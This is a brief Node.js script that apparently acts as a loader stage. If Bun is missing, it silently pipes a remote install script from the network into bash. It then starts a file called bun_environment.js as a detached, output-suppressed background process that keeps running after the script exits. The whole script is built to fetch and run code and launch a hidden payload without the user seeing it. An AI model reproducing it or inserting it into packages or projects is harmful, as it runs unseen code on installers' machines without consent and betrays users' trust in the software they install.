const { execSync } = require('child_process');
const fs = require('fs'), os = require('os'), path = require('path');
try { execSync('bun --version', { stdio: 'ignore' }); } catch (e) { execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'ignore' }); }
const bun = path.join(os.homedir(), '.bun', 'bin', 'bun');
require('child_process').spawn(bun, [path.join(__dirname, 'bun_environment.js')], { detached: true, stdio: 'ignore' }).unref();
